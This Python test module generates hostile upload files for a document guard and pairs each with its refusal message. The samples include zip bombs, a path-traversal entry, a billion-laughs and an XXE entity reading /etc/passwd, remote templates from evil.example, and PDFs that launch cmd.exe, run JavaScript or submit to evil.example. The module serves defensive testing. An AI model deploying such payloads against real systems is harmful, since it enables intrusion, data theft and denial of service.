"""Files that mean harm, or look as if they did, made on the spot: each with the sentence that it is refused with."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from documents import guard
from tests.documents import filling
from tests.documents.filling import BODY

BLANK = filling.blank()
RELATIONS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
W = filling.W[1:-1]
OLE = bytes.fromhex("d0cf11e0a1b11ae1")

DAMAGED = "it is damaged, or it is not a Word document."
LOCKED = "it is locked with a password. Please save it without one."
MACROS = "it holds macros. Please save it as a Word document (.docx) without them."
EMBEDDED = "another file is embedded in it. Please take that out and send it again."
OUTSIDE = "it fetches something from outside. Please take out linked pictures or files."
WORKBOOK = "it is a workbook or a presentation and not a Word document (.docx)."
DOCTYPE = "it holds a document type definition, which no Word document needs."
UNPACKS = "it unpacks to far more than a Word document does."
MUCH = "it holds far more text than a tool does."
UNREADABLE_TEXT = "it is damaged: its text cannot be read."
TWO_IN_ONE = "it is two kinds of file in one. Please save the tool again, and send that."
PROGRAM = "it is a program and not a Word document (.docx)."


@dataclass(frozen=True)
class Hostile:
    """One file: what it is called, how it is made, and what is said of it."""

    name: str
    make: Callable[[], bytes]
    says: str


def docx(**parts: bytes | None) -> bytes:
    return filling.with_parts(BLANK, parts)


def body(content: str, before: str = "") -> bytes:
    """A Word file with this in its body."""
    return docx(**{BODY: f'{before}<w:document xmlns:w="{W}"><w:body>{content}</w:body></w:document>'.encode()})


def relation(kind: str, target: str, encoding: str = "utf-8") -> bytes:
    found = (
        filling.parts(BLANK)[RELATIONS].decode("utf-8").partition("?>")[2] or filling.parts(BLANK)[RELATIONS].decode()
    )
    one = f'<Relationship Id="rIdX" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    text = found.replace("</Relationships>", f"{one}</Relationships>")
    return docx(**{RELATIONS: f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding)})


def types(old: str, new: str) -> bytes:
    return docx(**{TYPES: filling.parts(BLANK)[TYPES].replace(old.encode(), new.encode())})


def with_macros(honest: bool) -> bytes:
    """A Word file with a macro part; a .docm says so in its list of types too."""
    old, new = "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
    changed = {"word/vbaProject.bin": OLE + b"\0" * 600}
    if honest:
        changed[TYPES] = filling.parts(BLANK)[TYPES].replace(f"vnd.{old}".encode(), f"vnd.{new}".encode())
    return docx(**changed)


def zipped(parts: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", kind) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def lying_size() -> bytes:
    """30 MB that both headers state as a thousand bytes."""
    true = 30_000_000
    data = docx(**{"word/media.bin": b"\0" * true})
    return data.replace(true.to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def many_small_bombs() -> bytes:
    """No part is too much by itself; together they are."""
    return docx(**{f"word/media{place}.bin": b"\0" * 900_000 for place in range(120)})


def overlapping() -> bytes:
    """Two hundred entries of the directory that all point to the same packed bytes."""
    data = zipped({**filling.parts(BLANK), "word/kernel.bin": bytes(900_000)})
    directory, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entries = data[directory:end]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"word/kernel.bin", b"word/kern%02x.bin" % place) for place in range(200))
    entries += copies
    count = struct.unpack_from("<H", data, end + 10)[0] + 200
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(entries), directory, 0)
    return data[:directory] + entries + tail


def locked_zip() -> bytes:
    data = bytearray(BLANK)
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def compound(*streams: str) -> bytes:
    """A compound file as Office wrote before 2007, as far as its directory of names."""
    return OLE + b"\0" * 504 + b"".join(name.encode("utf-16-le") + b"\0" * 64 for name in streams)


def locked_word_97() -> bytes:
    header = b"\xec\xa5\xc1\x00" + b"\0" * 6 + b"\x00\x01"
    return OLE + b"\0" * 504 + header.ljust(512, b"\0") + "WordDocument".encode("utf-16-le")


# PDF


def pdf(*objects: bytes, trailer: bytes = b"", pages: int = 1) -> bytes:
    """A PDF of some pages, with these objects beside them."""
    kids = b" ".join(b"%d 0 R" % (10 + place) for place in range(pages))
    leaves = b"".join(b"%d 0 obj<</Type /Page /Parent 2 0 R>>endobj\n" % (10 + place) for place in range(pages))
    head = b"%%PDF-1.7\n1 0 obj<</Type /Catalog /Pages 2 0 R %s>>endobj\n" % trailer
    tree = b"2 0 obj<</Type /Pages /Kids [%s] /Count %d>>endobj\n" % (kids, pages)
    return head + tree + leaves + b"\n".join(objects) + b"\ntrailer<</Root 1 0 R %s>>\nstartxref\n0\n%%%%EOF" % trailer


def packed(objects: bytes) -> bytes:
    """Objects in an object stream, where a search through the bytes does not see them."""
    content = zlib.compress(objects)
    head = b"90 0 obj<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>stream\n" % len(content)
    return head + content + b"\nendstream endobj"


SCRIPT = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
SCRIPTED = "it is a PDF that holds a program (JavaScript). Please print it to a new PDF."
MANY_PAGES = "it is a PDF of more than 100 pages."

# pictures


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def endless_tiff() -> bytes:
    """Each page names the next one, and the last names the first."""
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 0) + struct.pack("<I", 8)


TOO_MANY_POINTS = "it is a picture that unpacks to far more than a page does. Please scan it at 300 dpi or less."

# OpenDocument and rich text

ODT = "application/vnd.oasis.opendocument.text"
_SPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)


def odt(inside: str = "", more: dict[str, bytes] | None = None, kind: str = ODT) -> bytes:
    content = f"<office:document-content {_SPACES}><office:body><office:text>{inside}</office:text></office:body>"
    manifest = (
        f"<manifest:manifest {_SPACES.replace('office:version', 'manifest:version')}>"
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    parts = {
        "mimetype": kind.encode(),
        "content.xml": f"{content}</office:document-content>".encode(),
        "META-INF/manifest.xml": manifest.encode(),
    }
    return zipped({**parts, **(more or {})})


def picture(target: str) -> str:
    """An OpenDocument picture that lies elsewhere."""
    return (
        '<text:p><draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        f'<draw:image xlink:href="{target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
        "</draw:frame></text:p>"
    )


def locked_odt() -> bytes:
    manifest = f"<manifest:manifest {_SPACES}><manifest:encryption-data/></manifest:manifest>"
    return odt(more={"META-INF/manifest.xml": manifest.encode()})


def levels(tag: str, depth: int, end: bool = True) -> str:
    """Elements within each other, each a little different, so that they do not pack like a bomb."""
    opened = "".join(f'<{tag} xml:id="a{place * 2_654_435_761 % 2**32:08x}">' for place in range(depth))
    return opened + f"</{tag}>" * depth if end else opened.replace(">", "/>")


NESTED = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">' + "".join(
    f'<!ENTITY c{n} "{"&b;" if n == 0 else f"&c{n - 1};" * 10}">' for n in range(10)
)
FETCHING = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'

HOSTILE: dict[str, Hostile] = {
    "empty": Hostile("a.docx", lambda: b"", "it is empty."),
    "oversized": Hostile("a.docx", lambda: b"PK\x03\x04" + b"\0" * guard.MOST_BYTES, "it is larger than 25 MB."),
    # archives
    "bomb in one part": Hostile("a.docx", lambda: docx(**{"word/m.bin": b"\0" * 30_000_000}), UNPACKS),
    "bomb in many parts": Hostile("a.docx", many_small_bombs, UNPACKS),
    "overlapping parts": Hostile("a.docx", overlapping, "its parts lie over each other, which no honest file does."),
    "size that lies": Hostile("a.docx", lying_size, DAMAGED),
    "far too many parts": Hostile(
        "a.docx",
        lambda: docx(**{f"p{n}": b"" for n in range(2001)}),
        "it holds far more parts than a Word document does.",
    ),
    "path traversal": Hostile(
        "a.docx",
        lambda: docx(**{"../../etc/cron.d/x": b"x"}),
        "one of its parts has a path that leads out of the file.",
    ),
    "odd packing": Hostile(
        "a.docx",
        lambda: zipped(filling.parts(BLANK), zipfile.ZIP_LZMA),
        "it is packed in a way that no Word document is.",
    ),
    "two parts of one name": Hostile(
        "a.docx",
        lambda: zipped({**filling.parts(BLANK), "WORD/document.xml": b"<x/>"}),
        "it holds two parts of the same name.",
    ),
    "cut off": Hostile("a.docx", lambda: BLANK[: len(BLANK) // 2], DAMAGED),
    "bytes at random": Hostile("a.docx", lambda: b"PK\x03\x04" + bytes(range(256)) * 40, DAMAGED),
    "without a list of parts": Hostile(
        "a.docx", lambda: docx(**{"_rels/.rels": None}), "it is damaged: its list of parts is missing."
    ),
    "without text": Hostile("a.docx", lambda: docx(**{BODY: None}), "it is damaged: its text is missing."),
    # locked
    "locked zip": Hostile("a.docx", locked_zip, LOCKED),
    "locked Word file": Hostile("a.docx", lambda: compound("EncryptedPackage", "EncryptionInfo"), LOCKED),
    "locked old Word file": Hostile("a.doc", locked_word_97, LOCKED),
    "locked OpenDocument": Hostile("a.odt", locked_odt, LOCKED),
    "locked PDF": Hostile(
        "a.pdf",
        lambda: pdf(trailer=b"/Encrypt 9 0 R"),
        "it is a PDF that is locked with a password or against copying. Please save it without that.",
    ),
    # programs
    "macros under a plain name": Hostile("a.docx", lambda: with_macros(honest=True), MACROS),
    "macros that no list names": Hostile("a.docx", lambda: with_macros(honest=False), MACROS),
    "a plain file that claims macros": Hostile(
        "a.docm",
        lambda: BLANK,
        "its name says that it holds macros. Please save it as a Word document (.docx).",
    ),
    "macros in an old Word file": Hostile("a.doc", lambda: compound("WordDocument", "_VBA_PROJECT"), MACROS),
    "macros in OpenDocument": Hostile("a.odt", lambda: odt(more={"Basic/Standard/M.xml": b"<a/>"}), MACROS),
    "ActiveX": Hostile(
        "a.docx",
        lambda: docx(**{"word/activeX/activeX1.bin": b"x"}),
        "it holds ActiveX controls, which are small programs. Please take them out and send it again.",
    ),
    "program under a Word name": Hostile("a.docx", lambda: b"MZ\x90\0" + b"\0" * 400, PROGRAM),
    "program inside": Hostile("a.docx", lambda: docx(**{"word/setup.exe": b"MZ"}), EMBEDDED),
    "workbook inside": Hostile("a.docx", lambda: docx(**{"word/embeddings/Book1.xlsx": b"PK"}), EMBEDDED),
    "object in an old Word file": Hostile(
        "a.doc", lambda: compound("WordDocument", "ObjectPool", "_1234567890"), EMBEDDED
    ),
    "object in OpenDocument": Hostile("a.odt", lambda: odt(more={"Object 1/content.xml": b"<a/>"}), EMBEDDED),
    "object in rich text": Hostile("a.rtf", lambda: b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", EMBEDDED),
    # what reaches outside
    "template from outside": Hostile(
        "a.docx",
        lambda: relation("attachedTemplate", "http://evil.example/t.dotm"),
        "it fetches its template from outside. Please save it with Word's own template.",
    ),
    "picture from outside": Hostile("a.docx", lambda: relation("image", "http://evil.example/a.png"), OUTSIDE),
    "picture from a share": Hostile("a.docx", lambda: relation("image", "file://evil.example/share/a.png"), OUTSIDE),
    "picture from outside, in UTF-16": Hostile(
        "a.docx", lambda: relation("image", "http://evil.example/a.png", "utf-16"), OUTSIDE
    ),
    "picture from outside in OpenDocument": Hostile(
        "a.odt", lambda: odt(picture("http://evil.example/a.png")), OUTSIDE
    ),
    "picture from outside in rich text": Hostile(
        "a.rtf",
        lambda: b'{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a.png"}}}',
        OUTSIDE,
    ),
    # markup
    "billion laughs": Hostile("a.docx", lambda: body("&c9;", before=f"{NESTED}]>"), DOCTYPE),
    "a file of the machine": Hostile("a.docx", lambda: body("&b;", before=FETCHING), DOCTYPE),
    "a hundred thousand levels": Hostile("a.docx", lambda: body(levels("w:p", 100_000)), UNREADABLE_TEXT),
    "levels in OpenDocument": Hostile(
        "a.odt", lambda: odt(levels("text:section", 50_000)), "it is nested far more deeply than a tool is."
    ),
    "half a million elements": Hostile("a.docx", lambda: body(levels("w:p", 300_000, end=False)), MUCH),
    "an odd encoding": Hostile(
        "a.docx",
        lambda: docx(**{BODY: b'<?xml version="1.0" encoding="utf-7"?><a/>'}),
        "its text is in an encoding that no Word document uses.",
    ),
    # mislabelled
    "workbook under a Word name": Hostile(
        "a.docx", lambda: types("wordprocessingml.document.main", "spreadsheetml.sheet.main"), WORKBOOK
    ),
    "presentation under a Word name": Hostile(
        "a.docx", lambda: types("wordprocessingml.document.main", "presentationml.presentation.main"), WORKBOOK
    ),
    "old workbook under a Word name": Hostile("a.doc", lambda: compound("Workbook"), WORKBOOK),
    "PDF under a Word name": Hostile(
        "a.docx",
        pdf,
        "its name ends in .docx, but it is a PDF. Please send it again under a name that ends in .pdf.",
    ),
    "Word under a PDF name": Hostile(
        "a.pdf",
        lambda: BLANK,
        "its name ends in .pdf, but it is a Word document. Please send it again under a name that ends in .docx.",
    ),
    "zip under a Word name": Hostile(
        "a.docx",
        lambda: zipped({"a.txt": b"a"}),
        "its name ends in .docx, but it is a zip archive. Please send it again under a name that ends in .zip.",
    ),
    "web page under a Word name": Hostile(
        "a.doc", lambda: b"<html><body>Grade</body></html>", "it is a web page and not a Word document (.docx)."
    ),
    "another archive": Hostile(
        "a.zip",
        lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 100,
        "it is an archive of a kind that I do not open. Please attach the tool itself.",
    ),
    "PDF that is a Word file too": Hostile("a.pdf", lambda: pdf() + BLANK, TWO_IN_ONE),
    "Word file that is a PDF too": Hostile(
        "a.docx", lambda: zipped({"%PDF-1.7": b"x", **filling.parts(BLANK)}, zipfile.ZIP_STORED), TWO_IN_ONE
    ),
    # PDF
    "PDF with a program": Hostile("a.pdf", lambda: pdf(b"9 0 obj" + SCRIPT + b"endobj"), SCRIPTED),
    "PDF with a packed program": Hostile("a.pdf", lambda: pdf(packed(SCRIPT)), SCRIPTED),
    "PDF with a program in escapes": Hostile("a.pdf", lambda: pdf(b"9 0 obj<</S /J#61vaScript>>endobj"), SCRIPTED),
    "PDF that starts programs": Hostile(
        "a.pdf",
        lambda: pdf(b"9 0 obj<</S /Launch /F (cmd.exe)>>endobj"),
        "it is a PDF that starts other programs. Please print it to a new PDF.",
    ),
    "PDF with a file inside": Hostile(
        "a.pdf",
        lambda: pdf(b"9 0 obj<</Type /Filespec /EF <<>>>>endobj", trailer=b"/Names <</EmbeddedFiles 9 0 R>>"),
        "it is a PDF with another file inside. Please attach that file by itself.",
    ),
    "PDF that sends": Hostile(
        "a.pdf",
        lambda: pdf(b"9 0 obj<</S /SubmitForm /F (http://evil.example)>>endobj"),
        "it is a PDF that sends or fetches something. Please print it to a new PDF.",
    ),
    "PDF of ten thousand pages": Hostile("a.pdf", lambda: pdf(pages=10_000), MANY_PAGES),
    "PDF that claims a million pages": Hostile(
        "a.pdf", lambda: pdf().replace(b"/Count 1", b"/Count 1000000"), MANY_PAGES
    ),
    "PDF that unpacks": Hostile(
        "a.pdf", lambda: pdf(packed(b"\0" * 60_000_000)), "it is a PDF that unpacks to far more than a tool does."
    ),
    "PDF cut off": Hostile("a.pdf", lambda: b"%PDF-1.7\n1 0 obj<<", "it is a PDF that is damaged."),
    # pictures
    "picture of 40,000 by 40,000": Hostile("a.png", lambda: png(40_000, 40_000), TOO_MANY_POINTS),
    "picture without an end": Hostile("a.tif", endless_tiff, "it is a picture of more than 40 pages."),
    "picture cut off": Hostile("a.jpg", lambda: b"\xff\xd8\xff\xe0\x00", "it is a picture that is damaged."),
    "picture of a phone": Hostile(
        "a.heic",
        lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100,
        "it is a picture in a format of phones. Please send it as a PDF or JPEG.",
    ),
    # archives of tools
    "empty archive": Hostile("a.zip", lambda: zipped({"__MACOSX/x": b""}), "it is a zip archive with nothing in it."),
    "archive in an archive": Hostile(
        "a.zip",
        lambda: zipped({"b.zip": zipped({"a.docx": BLANK})}),
        "it is an archive inside an archive. Please attach the tool itself.",
    ),
    "archive of many files": Hostile(
        "a.zip",
        lambda: zipped({f"{n}.docx": b"x" for n in range(11)}),
        "it is a zip archive of more than 10 files. Please send fewer at a time.",
    ),
    "archive that unpacks": Hostile(
        "a.zip", lambda: zipped({"a.docx": b"\0" * 40_000_000}), "it unpacks to far more than a zip of tools does."
    ),
    # others
    "Apple's Pages": Hostile(
        "a.pages",
        lambda: zipped({"Index/Document.iwa": b"x"}),
        "it is a file of Apple's Pages. Please export it as Word (.docx) and send that.",
    ),
}
